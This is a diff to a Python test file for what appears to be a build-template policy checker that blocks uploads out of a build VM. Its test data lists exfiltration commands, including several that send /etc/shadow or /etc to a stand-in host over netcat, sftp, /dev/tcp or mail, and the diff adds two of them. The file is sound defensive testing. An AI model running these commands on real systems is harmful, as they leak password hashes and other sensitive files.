@@ -363,6 +363,8 @@ UPLOADS = [
     ("rsync -a -e ssh /var/log/ ops@${COLLECTOR}:/srv/logs/", "rsync"),
     ("echo 'put /etc/shadow' | sftp ops@x.example", "sftp"),
     ("nc x.example 4444 < /etc/shadow", "netcat"),
+    ("tar cz /etc | nc x.example 4444", "netcat"),
+    ("mailx -s logs -a /var/log/auth.log ops@x.example < /dev/null", "mail"),
     ("cat /etc/shadow > /dev/tcp/203.0.113.5/80", "/dev/tcp"),
     ("az storage blob upload --auth-mode login --account-name st -c out -f /tmp/x -n x", "az storage upload"),
     ("az storage blob upload-batch -d out -s /var/log --account-name st", "az storage upload"),
@@ -402,6 +404,8 @@ def test_uploads_out_of_the_build_vm_are_refused(command, tool):
     "git clone --depth 1 https://x.example/repo.git /opt/repo",
     "git config --system push.default simple",
     "sudo apt-get update\nsudo apt-get install -y netcat-openbsd",
+    "sudo apt-get install -y netcat-openbsd mailutils < /dev/null",
+    "ls -a /var/mail -a",
 ])
 def test_downloads_and_literal_posts_are_not_uploads(command):
     assert violations("aib-no-uploads", TEMPLATE, _with_step("customize", 1, inline=command.split("\n"))) == []
